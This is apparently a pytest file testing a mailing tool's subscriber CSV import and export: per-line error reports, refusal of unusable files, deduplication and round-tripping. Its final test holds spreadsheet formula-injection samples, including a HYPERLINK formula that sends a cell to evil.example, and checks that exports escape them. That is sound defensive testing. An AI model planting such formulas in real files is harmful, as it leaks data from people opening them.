"""`dripcourse subscribers import` and `export`, as an operator moving a list in and out: good rows
are kept, each bad one is reported as `file:line: reason`, a file that is no usable CSV is refused
before anything is written, and the export reads back as CSV."""

from __future__ import annotations

import csv
import io
import sqlite3
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from dripcourse.config import Settings
from dripcourse.devtools.smtpserver import CapturingSMTPServer

# The `cli` fixture of tests/conftest.py: `cli(*args) -> CliResult(code, out, err)`.
CliRunner = Callable[..., Any]

NOW = "2026-03-02T15:00:00+00:00"  # a Monday afternoon
LATER = "2026-03-02T15:05:00+00:00"

# Line numbers are those of the file: the header is line 1.
MIXED_CSV = """\
email,name,timezone
ann@example.com,Ann Lee,Europe/Berlin
bob@example.com,Bob Stone,America/Toronto
not-an-address,Nobody,UTC
dee@example.com,Dee Park,Mars/Olympus
cat@example.com,Cat Moss,Australia/Sydney
ann@EXAMPLE.com,Ann Again,Europe/Berlin
eve@example.com,Eve Rowe,UTC,surplus
"""
GOOD = {
    "ann@example.com": ("Ann Lee", "Europe/Berlin", "2026-03-03 08:00 Europe/Berlin"),
    "bob@example.com": ("Bob Stone", "America/Toronto", "2026-03-03 08:00 America/Toronto"),
    "cat@example.com": ("Cat Moss", "Australia/Sydney", "2026-03-03 08:00 Australia/Sydney"),
}
BAD_LINES = {
    4: "not-an-address",
    5: "Mars/Olympus",
    7: "already on line 2",
    8: "more fields",
}


def db_path(settings: Settings) -> Path:
    return Path(settings.database_url.removeprefix("sqlite:///"))


def count(settings: Settings, table: str, where: str = "1") -> int:
    with sqlite3.connect(db_path(settings)) as connection:
        return int(connection.execute(f"SELECT count(*) FROM {table} WHERE {where}").fetchone()[0])


def all_counts(settings: Settings) -> dict[str, int]:
    return {t: count(settings, t) for t in ("subscribers", "enrollments", "deliveries")}


def ok(result: Any) -> Any:
    assert result.code == 0, result
    return result


@pytest.fixture
def ready(cli: CliRunner, settings: Settings) -> Settings:
    ok(cli("db", "upgrade"))
    ok(cli("courses", "sync"))
    return settings


@pytest.fixture
def mixed_csv(tmp_path: Path) -> Path:
    path = tmp_path / "people.csv"
    path.write_text(MIXED_CSV, encoding="utf-8")
    return path


def import_csv(cli: CliRunner, path: Path, *extra: str) -> Any:
    return cli("subscribers", "import", str(path), "--course", "runners", "--now", NOW, *extra)


def reported(err: str, path: Path) -> dict[int, str]:
    """`{line: reason}` of the stderr lines shaped `<path>:<line>: <reason>`."""
    found = {}
    for line in err.splitlines():
        if line.startswith(f"{path}:"):
            number, reason = line.removeprefix(f"{path}:").split(": ", 1)
            found[int(number)] = reason
    return found


def test_import_keeps_the_good_rows_and_reports_each_bad_one_by_line(
    cli: CliRunner, ready: Settings, mixed_csv: Path
) -> None:
    result = import_csv(cli, mixed_csv, "--confirmed")

    assert result.code == 1, result
    assert "Traceback" not in result.err
    problems = reported(result.err, mixed_csv)
    assert sorted(problems) == sorted(BAD_LINES), result.err
    for line, words in BAD_LINES.items():
        assert words in problems[line], (line, problems[line])
    assert "imported 3" in result.out and "skipped 4" in result.out

    listing = ok(cli("subscribers", "list", "--course", "runners")).out.splitlines()
    assert len(listing) == 3, listing
    for email, (name, zone, _) in GOOD.items():
        (row,) = [line for line in listing if line.startswith(email + " ")]
        assert name in row and zone in row and "runners:active" in row, row
    for email, (name, zone, due) in GOOD.items():
        shown = ok(cli("subscribers", "show", email)).out
        assert f"name: {name}" in shown and f"zone: {zone}" in shown, shown
        assert f"runners: active; next lesson due {due}" in shown, shown
    for rejected in ("dee@example.com", "eve@example.com"):
        assert cli("subscribers", "show", rejected).code == 2


def test_importing_the_same_file_again_duplicates_nothing(
    cli: CliRunner, ready: Settings, mixed_csv: Path
) -> None:
    import_csv(cli, mixed_csv, "--confirmed")
    before = all_counts(ready)

    again = import_csv(cli, mixed_csv, "--confirmed")

    assert again.code == 1, again
    assert "imported 0, already enrolled 3, skipped 4" in again.out, again.out
    assert sorted(reported(again.err, mixed_csv)) == sorted(BAD_LINES)
    assert all_counts(ready) == before == {"subscribers": 3, "enrollments": 3, "deliveries": 0}


def test_a_bad_row_spanning_lines_is_reported_at_the_line_where_it_starts(
    cli: CliRunner, ready: Settings, tmp_path: Path
) -> None:
    # A quoted field may hold line breaks; an editor shows the row where it begins.
    path = tmp_path / "multiline.csv"
    path.write_text(
        "email,name,timezone\n"  # line 1
        "ann@example.com,Ann Lee,UTC\n"  # line 2
        'bob@example.com,"Bob\nStone",UTC\n'  # lines 3-4: a name with a line break
        "not-an-address,Nobody,UTC\n"  # line 5
        "cat@example.com,Cat Moss,UTC\n",  # line 6
        encoding="utf-8",
    )

    result = import_csv(cli, path, "--confirmed")

    assert result.code == 1, result
    problems = reported(result.err, path)
    assert sorted(problems) == [3, 5], result.err
    assert "line break" in problems[3] and "not-an-address" in problems[5]
    assert "imported 2" in result.out


def test_an_unreadable_record_is_named_by_its_own_line(
    cli: CliRunner, ready: Settings, tmp_path: Path
) -> None:
    path = tmp_path / "huge-field.csv"
    path.write_text(
        "email,name\n"  # line 1
        "ann@example.com,Ann\n"  # line 2
        f"bob@example.com,{'x' * 200_000}\n"  # line 3: over the csv module's field limit
        "cat@example.com,Cat\n",  # line 4
        encoding="utf-8",
    )

    result = import_csv(cli, path, "--confirmed")

    assert result.code == 2, result
    lines = [line for line in result.err.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("dripcourse: error:"), lines
    assert "line 3" in lines[0], lines[0]
    assert count(ready, "subscribers") == 0


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"address,name\nann@example.com,Ann\n", id="no-email-column"),
        pytest.param(b"", id="empty-file"),
        pytest.param(
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\xff\xfe\xc3\x28", id="binary"
        ),
        pytest.param("email,name\nrené@example.com,René\n".encode("latin-1"), id="latin-1"),
    ],
)
def test_a_file_that_is_no_usable_csv_is_refused_before_anything_is_written(
    content: bytes, cli: CliRunner, ready: Settings, tmp_path: Path
) -> None:
    ok(cli("subscribe", "zed@example.com", "--course", "runners", "--confirmed"))
    path = tmp_path / "upload.csv"
    path.write_bytes(content)
    before = all_counts(ready)

    result = import_csv(cli, path, "--confirmed")

    assert result.code == 2, result
    lines = [line for line in result.err.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("dripcourse: error:"), lines
    assert "Traceback" not in result.err
    assert all_counts(ready) == before


def test_an_unconfirmed_import_sends_confirmation_emails_on_the_next_tick(
    cli: CliRunner, ready: Settings, mixed_csv: Path, smtpd: CapturingSMTPServer
) -> None:
    imported = import_csv(cli, mixed_csv)
    assert imported.code == 1 and "imported 3" in imported.out, imported

    pending = ok(cli("subscribers", "list", "--status", "pending")).out
    assert sorted(line.split()[0] for line in pending.splitlines()) == sorted(GOOD)
    assert ok(cli("subscribers", "list", "--status", "active")).out.strip() == "no subscribers"
    assert smtpd.messages == []

    tick = ok(cli("tick", "--now", LATER))

    assert "3 sent" in tick.out, tick.out
    received = sorted(smtpd.messages, key=lambda m: m.rcpt_tos)
    assert [m.rcpt_tos for m in received] == [(email,) for email in sorted(GOOD)]
    for message in received:
        assert "confirm" in message.message["Subject"].lower(), message.message["Subject"]
    # Confirming is the person's step: until then, the course has not started.
    assert "pending" in ok(cli("subscribers", "show", "ann@example.com")).out


def test_export_prints_one_csv_row_per_enrolment(
    cli: CliRunner, ready: Settings, mixed_csv: Path
) -> None:
    import_csv(cli, mixed_csv, "--confirmed")
    ok(
        cli(
            "subscribe",
            "fay@example.com",
            "--course",
            "runners",
            "--name",
            "Fay, Jr.",
            "--now",
            NOW,
        )
    )

    result = ok(cli("subscribers", "export"))

    assert result.out.splitlines()[0].startswith("email,name,timezone,course,status")
    rows = list(csv.DictReader(io.StringIO(result.out)))
    assert len(rows) == count(ready, "enrollments") == 4
    by_email = {row["email"]: row for row in rows}
    assert sorted(by_email) == sorted([*GOOD, "fay@example.com"])
    for email, (name, zone, _) in GOOD.items():
        row = by_email[email]
        assert (row["name"], row["timezone"], row["course"], row["status"]) == (
            name,
            zone,
            "runners",
            "active",
        )
        assert row["enrolled_at"].startswith("2026-03-02T15:00")
        assert row["confirmed_at"].startswith("2026-03-02T15:00")
    fay = by_email["fay@example.com"]
    assert (fay["name"], fay["status"], fay["confirmed_at"]) == ("Fay, Jr.", "pending", "")


def test_five_thousand_rows_are_all_enrolled(
    cli: CliRunner, ready: Settings, tmp_path: Path
) -> None:
    zones = ["Europe/Berlin", "America/Toronto", "Australia/Sydney", "Asia/Kolkata", ""]
    path = tmp_path / "big.csv"
    with path.open("w", newline="", encoding="utf-8") as stream:
        writer = csv.writer(stream)
        writer.writerow(["email", "name", "timezone"])
        for n in range(5000):
            writer.writerow([f"runner{n:04d}@example.com", f"Runner {n}", zones[n % len(zones)]])

    result = import_csv(cli, path, "--confirmed")

    assert result.code == 0, result.err[-2000:]
    assert "imported 5000, already enrolled 0, skipped 0" in result.out
    assert count(ready, "enrollments", "status = 'active'") == 5000
    assert count(ready, "subscribers") == 5000
    assert "enrolments:   active 5000" in ok(cli("status")).out


# Security finding 4: names and addresses that a spreadsheet would run as formulas. Each address is
# valid (RFC 5322 atext has `=`, `+`, `-` and `'`), so the address cell needs the escape too.
FORMULA_PEOPLE = {
    "ann@example.com": '=HYPERLINK("https://evil.example/?x="&A2,"Click")',
    "bob@example.com": "+1+2",
    "cat@example.com": "-2+3",
    "dee@example.com": "@SUM(A1:A2)",
    "=1+1@example.com": "Eve Rowe",
    "-2+3@example.com": "'Til Death",  # already starts with the escape: written with one more
    "'fay@example.com": "Fay Moss",
}


def test_an_export_runs_no_formula_in_a_spreadsheet_and_imports_back_unchanged(
    cli: CliRunner, ready: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for email, name in FORMULA_PEOPLE.items():
        ok(
            cli(
                "subscribe",
                "--course",
                "runners",
                f"--name={name}",
                "--confirmed",
                "--now",
                NOW,
                "--",
                email,
            )
        )
    exported = tmp_path / "export.csv"
    exported.write_bytes(ok(cli("subscribers", "export")).out.encode("utf-8"))

    with exported.open(newline="", encoding="utf-8") as stream:
        header, *cells = list(csv.reader(stream))
    assert header[:2] == ["email", "name"] and len(cells) == len(FORMULA_PEOPLE)
    for row in cells:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    written = {email: name for email, name, *_ in cells}
    assert written == {
        "'" + email if email[0] in "=-'" else email: "'" + name if name[0] in "=+-@'" else name
        for email, name in FORMULA_PEOPLE.items()
    }

    fresh = tmp_path / "fresh.db"
    monkeypatch.setenv("DRIPCOURSE_DATABASE_URL", f"sqlite:///{fresh}")
    ok(cli("db", "upgrade"))
    ok(cli("courses", "sync"))
    imported = ok(import_csv(cli, exported, "--confirmed"))
    assert f"imported {len(FORMULA_PEOPLE)}, already enrolled 0, skipped 0" in imported.out

    assert ok(cli("subscribers", "export")).out.encode("utf-8") == exported.read_bytes()
    with sqlite3.connect(fresh) as connection:
        stored = dict(connection.execute("SELECT email, name FROM subscribers").fetchall())
    assert stored == FORMULA_PEOPLE
